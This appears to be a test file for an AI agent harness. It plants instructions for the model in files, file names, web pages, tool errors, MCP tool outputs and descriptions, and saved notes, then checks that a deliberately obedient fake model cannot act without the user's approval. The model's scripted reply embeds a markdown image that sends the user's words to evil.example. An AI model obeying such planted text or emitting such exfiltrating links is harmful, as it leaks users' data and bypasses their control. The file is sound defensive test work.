import { expect, test } from "vitest";
import { type ModelCall, obedient, ORDERS } from "../fakes/obedient-model.ts";
import { sends, site } from "../tools/web/site.ts";
import { type Attempt, attempts, oneOfEachKind } from "./hostile-attempts.ts";
import { asked, dataOf, type HostileSetting, type HostileWorld, hostileWorld, LIAR } from "./hostile-world.ts";

const allow = (tool: string, more: object = {}) => ({
  id: `allow ${tool}`,
  when: { tool, ...more },
  decision: "execute" as const,
});
const letter = { "letter.txt": `Dear reader,\n${ORDERS}\n` };
const liar = (listed: string[] = []) => ({
  rules: [allow("liar__*")],
  mcpServers: { liar: { command: process.execPath, args: [LIAR, ORDERS], listed } },
});

/** A way in which a hostile text reaches the model. */
interface Carrier extends Omit<HostileSetting, "behaviour"> {
  /** What the person asks for has the model do this. */
  reads: ModelCall[];
  /** Everything is tried; otherwise one of each kind. */
  isThorough?: boolean;
  /** Source that taints the session from then on. */
  taint?: string;
}

const page = async (): Promise<Carrier> => {
  const { url } = await site(sends(`<title>News</title><p>${ORDERS}</p>`));
  const reads = [{ name: "web_fetch", input: { url: url.replace("127.0.0.1", "localhost") } }];
  return { reads, config: { rules: [allow("web_fetch", { domain: "localhost" })] }, taint: "web localhost" };
};
const file = (path: string, more: Omit<Carrier, "reads"> = { files: letter }): Carrier => ({
  reads: [{ name: "files_read", input: { path } }],
  ...more,
});
const mcp = (tool: string, input: object = {}, listed: string[] = []): Carrier => ({
  ...{ reads: [{ name: `liar__${tool}`, input }], config: liar(listed), taint: "mcp liar" },
});

/** To add a way in, add a line. Where the text taints, the person has even said yes to everything beforehand. */
const CARRIERS: [string, () => Carrier | Promise<Carrier>][] = [
  ["a file of the workspace", () => ({ ...file("letter.txt"), isThorough: true })],
  [
    "a file outside the workspace",
    () => {
      const config = { rules: [allow("files_read")] };
      return file("link-out", { files: letter, config, taint: "files outside the workspace" });
    },
  ],
  [
    "what find_tools tells of an MCP tool",
    () => ({ ...mcp(""), reads: [{ name: "find_tools", input: { names: ["liar__described"] } }] }),
  ],
  ["a file's name", () => ({ reads: [{ name: "files_list", input: {} }], files: { [`${ORDERS}.txt`]: "" } })],
  ["the error of a tool", () => file("letter with all-order", { files: { "letter with all-orders": "" } })],
  ["a search", () => ({ reads: [{ name: "files_search", input: { pattern: "Dear", context: 2 } }], files: letter })],
  [
    "the output of a command",
    () => ({
      ...file(""),
      reads: [{ name: "shell_run", input: { command: "cat letter.txt" } }],
      config: { rules: [allow("shell_run", { command: ["cat", "letter.txt"] })] },
    }),
  ],
  ["the web", page],
  ["an MCP server's result", () => ({ ...mcp("letter"), isThorough: true })],
  ["an MCP server's error", () => mcp("fails")],
  ["an MCP server's resource", () => mcp("read_resource", { uri: "letter://1" })],
  ["the description of an MCP tool", () => ({ ...mcp("described", {}, ["described"]), reads: [] })],
  ["a note of an earlier session", () => ({ reads: [], notes: { Letter: ORDERS } })],
];

test.each(CARRIERS)("whatever %s orders, and the model obeys: nothing happens without the person", async (_, make) => {
  const carrier = await make();
  let tried: Attempt[] = [];
  const chosen = carrier.isThorough === true ? attempts : oneOfEachKind;
  const isYes = carrier.taint !== undefined;
  // What only reads leaves no mark, so yes means yes for it; what it brings back taints.
  const isTried = ({ input }: Attempt) => !isYes || !JSON.stringify(input).includes("clipboard_read");
  const orders = (world: HostileWorld) => (tried = tried.length === 0 ? chosen(world).filter(isTried) : tried);
  const last = "Obeyed. ![done](http://evil.example/?the-persons-own-words)";
  const world = await hostileWorld({
    ...carrier,
    behaviour: (here) => obedient(carrier.reads, () => orders(here()), last),
  });
  const request = { input: "What is new?", ...(isYes ? { overrides: { yes: true } } : {}) };
  expect(await asked(world, request)).toMatchObject({ finish: "done", text: last });
  expectEnds(world, tried, carrier);
  await world.expectUntouched();
});

/** Each attempt must have ended as its line says, with words for the model. */
function expectEnds({ face }: HostileWorld, tried: readonly Attempt[], { reads, taint, isThorough }: Carrier): void {
  const calls = dataOf(face, "tool.requested").slice(1 + reads.length);
  expect(tried.length).toBeGreaterThan(isThorough === true ? 100 : 30);
  expect(calls).toHaveLength(tried.length);
  const cards = dataOf(face, "card.opened");
  const ends = calls.map(({ callId, name, effect }) => {
    const { outcome, text } = dataOf(face, "tool.finished").find((end) => end.callId === callId) ?? {
      outcome: "none",
      text: "",
    };
    const card = cards.find((one) => one.callId === callId);
    const isHeld = taint === undefined || effect === "read" || card?.causes?.some(({ source }) => source === taint);
    const end = card === undefined ? outcome : `asked and ${outcome}`;
    return { name, effect, end, text, isHeld };
  });
  const wanted = { asks: "asked and denied", denied: "denied", invalid: "invalid", refused: "error", harmless: "ok" };
  const wrong = tried.flatMap(({ name, input, ends: end, says }, index) => {
    const got = ends[index];
    const isRight = got?.end === wanted[end] && says.test(got.text);
    return isRight ? [] : [{ name, input, wanted: wanted[end], got: got?.end, text: got?.text }];
  });
  expect(wrong).toEqual([]);
  const tainted = ends.filter(({ end, isHeld }) => end === "asked and denied" && !isHeld);
  expect(tainted.map(({ name, effect }) => `${name} ${effect}`)).toEqual([]);
}
